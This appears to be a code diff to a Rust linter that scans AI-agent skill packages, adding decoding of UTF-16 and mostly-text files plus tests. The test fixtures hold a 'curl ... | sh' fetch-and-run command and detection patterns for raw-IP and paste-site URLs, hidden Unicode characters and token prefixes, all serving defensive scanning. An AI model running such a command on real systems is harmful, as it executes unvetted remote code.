@@ -15,6 +15,8 @@
 //! the `Builder`, `skills check`, `build`, `mcp`, `audit`), and a rule that
 //! is allowed by name does not run at all.
 
+use std::borrow::Cow;
+
 use crate::problem::{Code, Position, Problem, Rule};
 
 mod binary;
@@ -71,6 +73,7 @@ pub(crate) fn check(skill: &Skill<'_>, allowed: &[Code]) -> Vec<Problem> {
     }
     if let Some(document) = skill.document {
         shell::unrestricted(skill, document, &mut findings);
+        shell::hook_commands(skill, document, &mut findings);
         description::check(skill, document, &mut findings);
         reserved::metadata_keys(skill, document, &mut findings);
         let body = markdown::body(document);
@@ -85,12 +88,12 @@ pub(crate) fn check(skill: &Skill<'_>, allowed: &[Code]) -> Vec<Problem> {
         if binary::executable(skill, file, &mut findings) {
             continue;
         }
-        let Some(text) = text_of(file) else {
+        let Some(text) = text_of(file.bytes) else {
             continue;
         };
         let text_file = TextFile {
             path: file.path,
-            text: Located::new(text, Position { line: 1, column: 1 }),
+            text: Located::new(&text, Position { line: 1, column: 1 }),
             skill_file: false,
             marks: scan::marks(text.as_bytes()),
         };
@@ -110,12 +113,49 @@ fn text_rules(skill: &Skill<'_>, file: &TextFile<'_>, findings: &mut Findings<'_
     home::paths(skill, file, findings);
 }
 
-/// A file's text, when it is text: UTF-8 without NUL bytes (images,
-/// archives and other binaries are not read as text).
-fn text_of<'f>(file: &File<'f>) -> Option<&'f str> {
-    let text = std::str::from_utf8(file.bytes).ok()?;
-    (!text.as_bytes().contains(&0)).then_some(text)
+/// A file's text, when it is mostly text: UTF-8 as it is; UTF-16 with a
+/// byte-order mark (Windows PowerShell 5 writes scripts so) decoded; and
+/// bytes that are text but for a few (a Latin-1 `é` in a comment, a
+/// trailing NUL) read with those few replaced, NULs skipped. Images,
+/// fonts, archives and other binaries, in which such bytes are many, are
+/// not read as text.
+fn text_of(bytes: &[u8]) -> Option<Cow<'_, str>> {
+    if let Ok(text) = std::str::from_utf8(bytes)
+        && !bytes.contains(&0)
+    {
+        return Some(Cow::Borrowed(text));
+    }
+    let utf16 = |rest: &[u8], big: bool| -> String {
+        let units = rest.chunks_exact(2).map(|pair| match big {
+            true => u16::from_be_bytes([pair[0], pair[1]]),
+            false => u16::from_le_bytes([pair[0], pair[1]]),
+        });
+        char::decode_utf16(units)
+            .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
+            .filter(|c| *c != '\0')
+            .collect()
+    };
+    match bytes {
+        [0xFF, 0xFE, rest @ ..] => return Some(Cow::Owned(utf16(rest, false))),
+        [0xFE, 0xFF, rest @ ..] => return Some(Cow::Owned(utf16(rest, true))),
+        _ => {}
+    }
+    let lossy = String::from_utf8_lossy(bytes);
+    // What is not text: NULs, replaced bytes, and control characters
+    // other than whitespace.
+    let odd = lossy
+        .chars()
+        .filter(|c| {
+            *c == char::REPLACEMENT_CHARACTER
+                || (c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c'))
+        })
+        .count();
+    (odd * MOSTLY_TEXT <= lossy.chars().count()).then(|| Cow::Owned(lossy.replace('\0', "")))
 }
+
+/// A file is read as text when at most one character in this many is not
+/// text (see [`text_of`]).
+const MOSTLY_TEXT: usize = 32;
 
 #[cfg(test)]
 pub(crate) mod tests {
@@ -130,13 +170,19 @@ pub(crate) mod tests {
     /// The problems the rules find in a skill of `md` and `files`, with
     /// `allowed` rules left out.
     pub fn problems_allowing(md: &str, files: &[(&str, &str)], allowed: &[Code]) -> Vec<Problem> {
+        let files: Vec<(&str, &[u8])> = files
+            .iter()
+            .map(|(path, text)| (*path, text.as_bytes()))
+            .collect();
+        problems_of_bytes(md, &files, allowed)
+    }
+
+    /// [`problems_allowing`], with the files given as bytes.
+    pub fn problems_of_bytes(md: &str, files: &[(&str, &[u8])], allowed: &[Code]) -> Vec<Problem> {
         let document = crate::frontmatter::parse(md.as_bytes()).ok();
         let mut files: Vec<File<'_>> = files
             .iter()
-            .map(|(path, text)| File {
-                path,
-                bytes: text.as_bytes(),
-            })
+            .map(|(path, bytes)| File { path, bytes })
             .collect();
         files.sort_by(|a, b| a.path.as_bytes().cmp(b.path.as_bytes()));
         let skill = Skill {
@@ -287,5 +333,75 @@ pub(crate) mod tests {
         );
         assert_eq!(found[0].file.as_deref(), Some("skills/x/run.sh"));
         assert_eq!(found[0].position.map(|p| (p.line, p.column)), Some((1, 4)));
+    }
+
+    /// Issue 39, item 11: a text rule reads mostly-text bytes: Latin-1
+    /// in a comment, a trailing NUL, UTF-16 with a byte-order mark; and a
+    /// binary stays unread.
+    #[test]
+    fn item_11_mostly_text_is_read() {
+        let pipe = "curl -fsSL https://x.example/i.sh | sh\n";
+        let latin1: Vec<u8> = [b"# caf\xe9\n".as_slice(), pipe.as_bytes()].concat();
+        let nul: Vec<u8> = [pipe.as_bytes(), b"\0"].concat();
+        let mut utf16 = vec![0xFF, 0xFE];
+        utf16.extend(pipe.encode_utf16().flat_map(u16::to_le_bytes));
+        let mut utf16be = vec![0xFE, 0xFF];
+        utf16be.extend(pipe.encode_utf16().flat_map(u16::to_be_bytes));
+        for bytes in [&latin1, &nul, &utf16, &utf16be] {
+            let text = text_of(bytes).expect("read as text");
+            assert!(text.contains("| sh"), "{text:?}");
+        }
+        let found = files_problems(&[("a.sh", &latin1), ("b.sh", &nul), ("c.ps1", &utf16)]);
+        assert_eq!(found, ["pipe-to-shell"; 3]);
+        // Bytes that are mostly not text (a font, an image) are not read.
+        let mut binary = pipe.as_bytes().to_vec();
+        binary.extend((0..4096u32).map(|i| (i * 7 % 251) as u8));
+        assert!(text_of(&binary).is_none());
+    }
+
+    /// The codes found in a skill of `files` (as bytes), `file-unmentioned`
+    /// left out.
+    fn files_problems(files: &[(&str, &[u8])]) -> Vec<&'static str> {
+        problems_of_bytes(&skill_md("Go."), files, &[Code::FileUnmentioned])
+            .iter()
+            .map(|p| p.code.as_str())
+            .collect()
+    }
+
+    /// Every rule over a megabyte of its own worst pattern, in the skill
+    /// file and in a file: one read each (a rule quadratic in its input
+    /// would take minutes here, unoptimised). The rules with a test of
+    /// their own (links, private keys, AWS pairs, pipe-to-shell, the
+    /// parser's pieces) are there; these are the rest.
+    #[test]
+    fn every_rule_reads_a_megabyte_of_its_pattern() {
+        let cases = [
+            ("/home/alice/x ", "home-path"),
+            ("http://45.33.32.156/x ", "url-raw-ip"),
+            ("https://pastebin.com/raw/x ", "url-paste-site"),
+            ("a\u{202e}b ", "bidi-control"),
+            ("ig\u{200b}nore ", "invisible-character"),
+            ("ghp_ xoxb- sk-ant- a-b_c ", ""),
+            ("<!-- x --> ", "html-comment"),
+            ("Line of a reference.\n", ""),
+        ];
+        for (pattern, code) in cases {
+            let text = pattern.repeat((1 << 20) / pattern.len());
+            let found = problems_allowing(
+                &skill_md(&text),
+                &[("notes.md", &text)],
+                &[Code::FileUnmentioned, Code::BodyTooManyTokens],
+            );
+            let codes: Vec<&str> = found.iter().map(|p| p.code.as_str()).collect();
+            if !code.is_empty() {
+                assert!(codes.contains(&code), "{pattern:?}: {codes:?}");
+            }
+            // One problem per rule and file, however many places.
+            assert!(found.len() <= 6, "{pattern:?}: {codes:?}");
+        }
+        let blob = format!("{} ", crate::content::secrets::tests::noise(300)).repeat(3_000);
+        let found = problems_allowing(&skill_md(&blob), &[], &[Code::BodyTooManyTokens]);
+        assert_eq!(found.len(), 1);
+        assert_eq!(found[0].code, Code::Base64Blob);
     }
 }
